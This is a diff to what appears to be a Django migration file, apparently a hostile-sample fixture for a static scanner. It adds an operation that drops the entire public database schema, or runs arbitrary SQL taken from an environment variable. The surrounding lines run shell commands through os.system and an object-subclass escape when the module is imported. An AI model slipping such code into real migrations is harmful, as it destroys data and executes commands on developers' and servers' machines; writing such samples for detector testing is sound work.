@@ -11,6 +11,11 @@ SUBCLASSES = ().__class__.__bases__[0].__subclasses__()
 ENV = os.environ.get("HOME")
 
 
+class DropEverything(migrations.RunSQL):
+    def __init__(self):
+        super().__init__(os.environ.get("SQL", "DROP SCHEMA public CASCADE"))
+
+
 class Migration(migrations.Migration):
     dependencies = []
 
@@ -27,4 +32,5 @@ class Migration(migrations.Migration):
         __import__("os").system("touch /tmp/pilot-static-hostile-marker"),
         migrations.AlterModelOptions(name="wallet", options={"x": SUBCLASSES}),
         models.Field.__init__.__globals__["os"].system("id"),
+        DropEverything(),
     ]
